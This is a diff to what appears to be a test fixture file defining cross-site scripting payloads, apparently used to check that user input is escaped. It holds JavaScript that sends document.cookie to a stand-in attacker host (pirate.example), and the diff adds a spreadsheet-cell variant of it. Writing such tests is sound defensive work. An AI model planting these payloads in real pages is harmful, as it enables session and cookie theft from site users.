@@ -31,6 +31,8 @@ ACCOUNTS = [
 PWNED_JS = "window.__pwned=1;fetch('http://pirate.example/'+document.cookie)"
 IMG_PAYLOAD = f'<img src=x onerror="{PWNED_JS}">'
 SCRIPT_PAYLOAD = f"<script>{PWNED_JS}</script>"
+# The same in one spreadsheet cell: no ";" "," or quote, which a CSV reader would split on.
+CELL_PAYLOAD = "<img src=x onerror=\"fetch('http://pirate.example/x')&&0||(window.__pwned=1)\">"
 
 
 @dataclass
